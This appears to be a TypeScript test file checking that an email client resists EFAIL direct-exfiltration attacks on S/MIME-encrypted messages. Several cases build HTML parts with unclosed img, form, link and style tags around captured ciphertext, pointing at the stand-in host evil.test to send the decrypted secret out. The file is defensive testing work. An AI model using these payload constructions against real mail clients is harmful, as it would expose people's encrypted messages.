import { attacks, type Expectation } from "./expectation.ts";
import { bobReads, encrypted, html, message, multi, plain, SECRET, signed, eve } from "./stage.ts";
import { expect, it } from "vitest";

const captured = () => encrypted(html(`<p>${SECRET}</p>`));
const around: Expectation = { author: null, signed: "none", encrypted: "none", never: SECRET, problems: ["smime.part-outside-envelope"] };

attacks("EFAIL, direct exfiltration: parts around a ciphertext never surround its text (UI-07, UI-08)", [
  ["a picture's address that goes on", async () => message(multi("mixed", html('<img src="http://evil.test/'), await captured(), html('">'))), { ...around, html: true, parts: [["2", "none", "failed"]] }],
  ["a form that goes on", async () => message(multi("mixed", html('<form action="http://evil.test/"><textarea name=x>'), await captured(), html("</textarea></form>"))), { ...around, html: true, parts: [["2", "none", "failed"]] }],
  ["a link that goes on", async () => message(multi("mixed", html('<a href="http://evil.test/'), await captured(), html('">Read more</a>'))), { ...around, html: true, parts: [["2", "none", "failed"]] }],
  ["a style that goes on", async () => message(multi("mixed", html("<style>@import 'http://evil.test/"), await captured(), html("';</style>"))), { ...around, html: true, parts: [["2", "none", "failed"]] }],
  ["a comment that goes on", async () => message(multi("mixed", html("<!--"), await captured(), html("--><p>Hello"))), { ...around, html: true, parts: [["2", "none", "failed"]] }],
  ["all of it signed by Eve", async () => message(await signed(eve, multi("mixed", html('<img src="http://evil.test/'), await captured(), html('">'))), { From: "eve@evil.test" }), { author: "eve@evil.test", signed: "verified", encrypted: "none", never: SECRET, html: true }],
  [
    "a decrypted text with HTML of its own is text: nobody signed it",
    async () => message(await encrypted(html(`<p>${SECRET}</p><img src="http://evil.test/x"><style>p{background:url(http://evil.test/y)}</style><a href="http://evil.test/z">more</a>`))),
    { author: null, signed: "none", encrypted: "decrypted", problems: ["smime.no-integrity"], text: SECRET, never: "evil.test" },
  ],
  [
    "the same with a text beside it",
    async () => message(await encrypted(multi("alternative", plain(SECRET), html('<img src="http://evil.test/x">')))),
    { author: null, signed: "none", encrypted: "decrypted", problems: ["smime.no-integrity"], text: SECRET, never: "evil.test" },
  ],
]);

it("a tag that never ends becomes text and no tag (UI-08)", async () => {
  const { content } = await bobReads(message(await encrypted(html(`<p>a</p><img src="http://evil.test/${SECRET}`))));
  expect(content.body).toEqual({ text: `a\n<img src="http://evil.test/${SECRET}` });
});
